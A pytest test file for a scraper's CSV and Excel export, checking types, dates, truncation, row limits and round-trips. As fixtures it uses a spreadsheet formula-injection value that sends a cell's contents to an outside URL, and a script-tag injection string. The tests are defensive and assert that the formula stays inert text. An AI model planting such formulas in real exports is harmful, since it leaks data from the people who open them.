"""`scrapy export csv` and `xlsx`: other programs read back what the records say."""

from __future__ import annotations

import datetime
import json
from pathlib import Path
from typing import Any

import pytest

from sc_spiders.export import xlsx

from . import readers
from .make import Row, follows, listing, user, write, write_folder
from .run import Runner
from .sample import NASTY, SAMPLE

FORMULA = '=HYPERLINK("https://example.org/?"&A1;"more")'
LARGE = 2**53 + 1
ROWS: list[Row] = [
    user(1, username=FORMULA, verified=True, followers_count=7, created_at="2010-02-03T04:05:06Z"),
    user(LARGE, username="https://example.org/", verified=False, creator_subscriptions=[{"product": {"id": "free"}}]),
    follows(1, LARGE),
    listing("followers", "soundcloud:users:1", missing=["soundcloud:tracks:4"], complete=False),
]


def sheets(path: Path) -> dict[str, list[dict[str, Any]]]:
    """The rows of each sheet. Each row has its cells by the names in the first row."""
    book = readers.workbook(path)
    found: dict[str, list[dict[str, Any]]] = {}
    for sheet in book:
        names, *rows = sheet.values
        found[sheet.title] = [dict(zip(names, row, strict=True)) for row in rows]
    return found


def test_a_sheet_of_excel_has_numbers_dates_and_text(tmp_path: Path, scrapy: Runner) -> None:
    write_folder(tmp_path / "in", ROWS)
    result = scrapy("export", "in", "xlsx")
    assert result.code == 0
    assert "in.xlsx: 1 edge, 1 listing, 2 users" in result.out

    found = sheets(tmp_path / "in.xlsx")
    assert {kind: len(rows) for kind, rows in found.items()} == {"edge": 1, "listing": 1, "user": 2}
    first, second = sorted(found["user"], key=lambda row: str(row["id"]))
    assert (first["id"], first["followers_count"], first["verified"]) == (1, 7, True)
    assert first["created_at"] == datetime.datetime(2010, 2, 3, 4, 5, 6)
    assert first["description"] is None
    assert (second["id"], second["verified"]) == (str(LARGE), False)
    assert json.loads(second["creator_subscriptions"]) == [{"product": {"id": "free"}}]
    assert json.loads(found["listing"][0]["missing"]) == ["soundcloud:tracks:4"]


def test_no_cell_of_excel_is_a_formula_or_a_link(tmp_path: Path, scrapy: Runner) -> None:
    write(tmp_path / "a.jsonl", ROWS)
    assert scrapy("export", "a.jsonl", "xlsx").code == 0

    sheet = readers.workbook(tmp_path / "a.xlsx")["user"]
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    assert cells[FORMULA].data_type == "s"
    assert cells[FORMULA].quotePrefix  # it stays text when somebody edits it
    assert cells["https://example.org/"].hyperlink is None


@pytest.mark.parametrize(
    ("moment", "shown"),
    [
        ("1900-03-01T00:00:00Z", datetime.datetime(1900, 3, 1)),
        ("1900-02-28T00:00:00Z", "1900-02-28T00:00:00Z"),
        ("0001-01-01T00:00:00Z", "0001-01-01T00:00:00Z"),
        ("9999-12-31T23:59:59Z", datetime.datetime(9999, 12, 31, 23, 59, 59)),
    ],
)
def test_a_date_that_excel_lacks_is_text(tmp_path: Path, scrapy: Runner, moment: str, shown: object) -> None:
    write(tmp_path / "a.jsonl", [user(1, created_at=moment)])
    assert scrapy("export", "a.jsonl", "xlsx").code == 0
    assert sheets(tmp_path / "a.xlsx")["user"][0]["created_at"] == shown


def test_text_that_no_cell_holds_is_cut_visibly(tmp_path: Path, scrapy: Runner) -> None:
    longest = "\U0001f3a7" * (xlsx.LONGEST // 2)
    write(tmp_path / "a.jsonl", [user(1, description=longest), user(2, description=f"{longest}ab")])
    result = scrapy("export", "a.jsonl", "xlsx")
    assert "1 text (user.description): cut after 32,767 characters" in result.out
    first, second = sheets(tmp_path / "a.xlsx")["user"]
    assert first["description"] == longest
    assert second["description"] == f"{longest}…"


def test_characters_that_xml_lacks_do_not_break_the_file(tmp_path: Path, scrapy: Runner) -> None:
    write(tmp_path / "a.jsonl", [user(1, username=NASTY)])
    assert scrapy("export", "a.jsonl", "xlsx").code == 0
    (row,) = sheets(tmp_path / "a.xlsx")["user"]
    assert row["username"].startswith("<script>alert(1)</script> & \"q\" 'a', ;\n\t")
    assert row["username"].endswith("\U0001f3a7 ünï\\")


def test_more_records_than_a_sheet_has_rows_are_refused(
    tmp_path: Path, scrapy: Runner, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path / "a.jsonl", ROWS)
    monkeypatch.setattr(xlsx, "ROWS", 1)
    result = scrapy("export", "a.jsonl", "xlsx")
    assert result.code == 2
    (line,) = result.err.splitlines()
    assert line.startswith("export: 2 user records are more than a sheet of Excel holds (1): export csv, parquet or")
    assert not (tmp_path / "a.xlsx").exists()


def test_csv_has_the_words_that_other_tools_read(tmp_path: Path, scrapy: Runner) -> None:
    import pandas as pd

    write_folder(tmp_path / "in", ROWS)
    result = scrapy("export", "in", "csv")
    assert result.code == 0
    assert "for a spreadsheet export xlsx" in result.out

    assert sorted(file.name for file in Path("in.csv").glob("*.csv")) == ["edge.csv", "listing.csv", "user.csv"]
    data = Path("in.csv/user.csv").read_bytes()
    assert b",true," in data
    assert b",True," not in data
    assert data.count(b"\r\n") == 3
    table = pd.read_csv("in.csv/user.csv").sort_values("id")
    assert table["verified"].tolist() == [True, False]
    assert table["id"].tolist() == [1, LARGE]
    assert table["username"].tolist() == [FORMULA, "https://example.org/"]


def test_exported_csv_is_a_data_set_again(tmp_path: Path, scrapy: Runner) -> None:
    write_folder(tmp_path / "in", SAMPLE)
    assert scrapy("export", "in", "csv", "-o", "again").code == 0
    assert scrapy("export", "again", "csv").code == 0
    for file in Path("again").glob("*.csv"):
        assert Path("again.csv", file.name).read_bytes() == file.read_bytes()


def test_exported_csv_is_no_part_of_the_folder_in_which_it_lies(tmp_path: Path, scrapy: Runner) -> None:
    write_folder(tmp_path / "all" / "first", ROWS)
    assert scrapy("export", "all/first", "csv").code == 0
    result = scrapy("merge", "all", "-o", "merged.jsonl")
    assert "(of 3 files; 0 records repeated others)" in result.out
    result = scrapy("merge", *sorted(Path("all").iterdir()), "-o", "merged.jsonl")
    assert "all/first.csv: left out" in result.out
